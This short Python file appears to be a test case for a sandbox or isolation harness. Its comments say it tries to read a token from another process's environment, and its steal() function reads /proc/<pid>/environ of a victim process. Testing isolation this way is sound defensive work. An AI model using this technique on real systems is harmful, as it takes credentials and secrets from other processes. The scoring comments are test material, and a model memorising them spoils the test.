# Tries: to read a token in the environment of another process of the same user.
# Earns: Descent 0, average 2
# Without protection: escapes
from pathlib import Path

ON = {}


def steal():
    return Path(f"/proc/{ON['victim']}/environ").read_bytes().decode()
